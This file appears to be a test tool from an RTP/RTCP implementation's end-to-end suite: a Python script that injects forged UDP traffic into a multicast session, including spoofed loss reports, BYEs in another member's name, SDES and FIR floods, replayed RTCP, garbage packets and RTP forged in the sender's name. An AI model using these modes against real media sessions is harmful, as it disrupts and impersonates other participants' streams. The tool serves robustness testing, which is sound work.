#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Speaks raw UDP to a session for a while; prints how many packets it sent.

    inject.py WAY ADDRESS PORT [--ssrc S] [--per-s N] [--seconds S] [--rate R] [--wait S]

ADDRESS and PORT are the sender's for reports, or the group's; PORT is that of RTP, RTCP goes to
PORT + 1. Ways:

    reports   reports of --rate in the name of --ssrc
    rr        receiver reports with a block about --media that says that all is lost, in its name
    byes      BYEs in its name
    names     reports of --rate, each in a new name
    sdes      SDES in 1000 names, round and round
    garbage   noise of every length, and noise that begins like RTP and RTCP
    liar      one member that reports --rate without loss, ten times a second, and names --media
    stranger  the same without naming it: it cannot hear the session
    fir       FIR about --media, in 500 names
    replay    listens to the group for 3 s, then sends the receivers' RTCP again --wait s later
    loop      sends what comes to the group to it again: RTP and RTCP
    impostor  RTP in the sender's name: what comes to --groups groups from --first on (addresses one
              after the other, ports two) with the next numbers and noise instead of the picture
    joins     --count sockets join the group (or --groups), each for RTP and RTCP, and say nothing
"""

import argparse
import random
import select
import socket
import struct
import sys
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "e2e"))

from attack import Target, bye, compound, packet, report, rr, rr_about, sdes  # noqa: E402

FIR = 206
HEADS = (b"", b"\x80\x60", b"\x90\xe0", b"\x80\xc8", b"\x81\xc9", b"\x81\xcc")


def block(ssrc, media):
    """An RR that says that all was lost of @media (RFC 3550 6.4.2)."""
    body = struct.pack(">II", ssrc, media) + bytes([255]) + (1000).to_bytes(3, "big")
    return packet(201, 1, body + struct.pack(">IIII", 1, 0, 0, 0))


def fir(ssrc, media, number):
    body = struct.pack(">III", ssrc, 0, media) + bytes([number & 255, 0, 0, 0])
    return packet(FIR, 4, body)


def make(args, i):
    """The compound number @i of a flood, and where it goes (0: RTP, 1: RTCP)."""
    way = args.way
    if way == "reports":
        return compound(args.ssrc, report(args.ssrc, args.number + i, args.rate)), 1
    if way == "rr":
        return block(args.ssrc, args.media) + sdes(args.ssrc), 1
    if way == "byes":
        return rr(args.ssrc) + sdes(args.ssrc) + bye(args.ssrc), 1
    if way == "names":
        ssrc = 0x20000000 + i
        return compound(ssrc, report(ssrc, 1, args.rate)), 1
    if way == "sdes":
        ssrc = 0x30000000 + i % 1000
        return rr(ssrc) + sdes(ssrc, b"x" * 200), 1
    if way == "stranger":
        return compound(args.ssrc, report(args.ssrc, args.number + i, args.rate)), 1
    if way == "liar":
        said = report(args.ssrc, args.number + i, args.rate)
        return rr_about(args.ssrc, args.media) + sdes(args.ssrc) + said, 1
    if way == "fir":
        ssrc = 0x40000000 + i % 500
        return rr(ssrc) + sdes(ssrc) + fir(ssrc, args.media, i // 500), 1
    head = args.random.choice(HEADS)
    return (head + args.random.randbytes(1500))[: i % 1501], i % 2


def flood(target, args):
    begin = time.monotonic()
    sent = 0
    while (passed := time.monotonic() - begin) < args.seconds:
        while sent < passed * args.per_s:
            data, rtcp = make(args, sent)
            target.to(target.port + rtcp, data)
            sent += 1
        time.sleep(0.002)


def listen(group, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind((group, port))
    wanted = socket.inet_aton(group) + struct.pack(">I", socket.INADDR_ANY)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, wanted)
    return sock


def replay(target, args):
    heard, end = [], time.monotonic() + 3
    sock = listen(target.group, target.port + 1)
    sock.settimeout(0.2)
    while time.monotonic() < end:
        try:
            data = sock.recv(2048)
        except TimeoutError:
            continue
        if data[1] == 201:
            heard.append(data)
    sock.close()
    time.sleep(args.wait)
    begin, sent = time.monotonic(), 0
    while heard and (passed := time.monotonic() - begin) < args.seconds:
        while sent < passed * args.per_s:
            target.to(target.port + 1, heard[sent % len(heard)])
            sent += 1
        time.sleep(0.002)


def loop(target, args):
    """A bridge that sends everything again, once: what it sent itself it knows by its own port."""
    socks = {listen(target.group, target.port + k): k for k in (0, 1)}
    own = target.socket.getsockname()[1]
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        for sock in select.select(list(socks), [], [], 0.2)[0]:
            data, (_, port) = sock.recvfrom(2048)
            if port != own:
                target.to(target.port + socks[sock], data)
                own = target.socket.getsockname()[1]


def impostor(target, args):
    base = int.from_bytes(socket.inet_aton(target.group), "big")
    socks = {}
    for i in range(args.groups):
        group = socket.inet_ntoa((base + args.first + i).to_bytes(4, "big"))
        socks[listen(group, target.port + 2 * i)] = (group, target.port + 2 * i)
    own = target.socket.getsockname()[1]
    end = time.monotonic() + args.seconds
    while time.monotonic() < end:
        for sock in select.select(list(socks), [], [], 0.2)[0]:
            data, (_, port) = sock.recvfrom(2048)
            if port == own:
                continue
            for ahead in (1, 2):
                number = (int.from_bytes(data[2:4], "big") + ahead) & 0xFFFF
                noise = args.random.randbytes(max(len(data) - 32, 0))
                forged = data[:2] + number.to_bytes(2, "big") + data[4:32] + noise
                target.socket.sendto(forged, socks[sock])
                target.sent += 1


def joins(target, args):
    base = int.from_bytes(socket.inet_aton(target.group), "big")
    socks = []
    for i in range(args.groups):
        group = socket.inet_ntoa((base + args.first + i).to_bytes(4, "big"))
        for k in (0, 1):
            socks += [listen(group, target.port + 2 * i + k) for _ in range(args.count)]
    time.sleep(args.seconds)
    target.sent = len(socks) // 2


WAYS = ("reports", "rr", "byes", "names", "sdes", "garbage", "liar", "stranger", "fir", "replay")
WAYS += ("loop", "impostor", "joins")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("way", choices=WAYS)
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    parser.add_argument("--ssrc", type=int, default=0x0BADF00D)
    parser.add_argument("--media", type=int, default=0)
    parser.add_argument("--per-s", type=float, default=1000)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--rate", type=int, default=1000)
    parser.add_argument("--number", type=int, default=1 << 20)
    parser.add_argument("--wait", type=float, default=1)
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--groups", type=int, default=1)
    parser.add_argument("--first", type=int, default=0)
    args = parser.parse_args()
    args.random = random.Random(1)
    target = Target(args.address, args.port)
    target.socket.bind(("", 0))
    ways = {"replay": replay, "loop": loop, "impostor": impostor, "joins": joins}
    ways.get(args.way, flood)(target, args)
    print(target.sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
